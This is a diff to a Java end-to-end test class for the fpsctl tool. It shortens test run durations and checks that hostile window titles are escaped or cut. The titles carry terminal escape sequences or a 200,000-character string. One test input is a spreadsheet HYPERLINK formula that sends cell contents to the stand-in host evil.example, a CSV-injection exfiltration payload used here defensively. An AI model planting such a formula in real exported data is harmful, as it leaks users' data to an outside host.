@@ -17,7 +17,12 @@ import org.junit.jupiter.api.io.TempDir;
  * A window title is app-controlled ({@code Activity.setTitle}): a simulated app names its window with terminal escape
  * sequences, and nothing fpsctl prints may carry them raw (docs/outputs-and-signals.md, "Text from a device on the
  * terminal"). The title reaches gfxinfo's "Window:" header and SurfaceFlinger's layer names, so watch, capture and
- * analyze all print it somewhere.
+ * analyze all print it somewhere. The runs of one title last 1 s (they were 2 s): the scenario draws at 60 Hz with one
+ * slow frame (2 or 4 vsyncs) in 20, about 52 frames a second, which the run's last poll reads up to its end
+ * (docs/metrics.md 11), and the checks need at most 30 rows of them and one window line; the thread names' run keeps
+ * 4 s, as a thread's share of the app's CPU needs more samples than a second gives (in 1 s and 1.5 s runs
+ * {@code topThreads} stayed empty). In real time through the simulator's adb transport: the title reaches fpsctl as
+ * the device's dumps carry it, and what is checked is the commands' own writers.
  */
 @Tag("e2e")
 class HostileDeviceTextEndToEndTest {
@@ -36,7 +41,7 @@ class HostileDeviceTextEndToEndTest {
     @Test
     void watchPlainShowsTheHostileTitleEscaped(@TempDir Path dir) throws Exception {
         Path s = scenario(dir, HostileText.HOSTILE);
-        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "2s", "--plain");
+        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "1s", "--plain");
         assertEquals(ExitCode.OK, r.exit, r::toString);
         HostileText.assertNoRawControl(r.out);
         HostileText.assertNoRawControl(r.err);
@@ -46,7 +51,7 @@ class HostileDeviceTextEndToEndTest {
     @Test
     void captureShowsTheHostileTitleEscaped(@TempDir Path dir) throws Exception {
         Path s = scenario(dir, HostileText.HOSTILE);
-        Cli r = Cli.run("capture", PKG, "--simulate=" + s, "--duration", "2s", "--out", dir.resolve("run").toString());
+        Cli r = Cli.run("capture", PKG, "--simulate=" + s, "--duration", "1s", "--out", dir.resolve("run").toString());
         assertEquals(ExitCode.OK, r.exit, r::toString);
         HostileText.assertNoRawControl(r.out);
         HostileText.assertNoRawControl(r.err);
@@ -75,7 +80,7 @@ class HostileDeviceTextEndToEndTest {
         String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
         Path s = scenario(dir, formula);
         Path out = dir;
-        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "2s", "--plain", "--frames-csv",
+        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "1s", "--plain", "--frames-csv",
                 out.resolve("frames.csv").toString());
         assertEquals(ExitCode.OK, r.exit, r::toString);
         java.util.List<String> rows = Files.readAllLines(out.resolve("frames.csv"));
@@ -93,7 +98,7 @@ class HostileDeviceTextEndToEndTest {
                 }
             }
         }
-        assertTrue(withTitle > 30, "rows of the titled window: " + withTitle);
+        assertTrue(withTitle > 30, "rows of the titled window: " + withTitle); // of about 52 drawn in the second
         Cli a = Cli.run("analyze", out.resolve("frames.csv").toString(), "--format", "json");
         assertEquals(ExitCode.OK, a.exit, a::toString);
         assertTrue(a.out.contains(JSON.writeValueAsString(formula).replace("/", "\\/"))
@@ -109,7 +114,7 @@ class HostileDeviceTextEndToEndTest {
     void aHugeTitleIsCutAndMarked(@TempDir Path dir) throws Exception {
         Path s = scenario(dir, "com.example.feed/" + "x".repeat(200_000));
         Path frames = dir.resolve("frames.csv");
-        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "2s", "--plain", "--frames-csv",
+        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "1s", "--plain", "--frames-csv",
                 frames.toString());
         assertEquals(ExitCode.OK, r.exit, () -> r.toString().substring(0, 2000));
         java.util.List<String> rows = Files.readAllLines(frames);
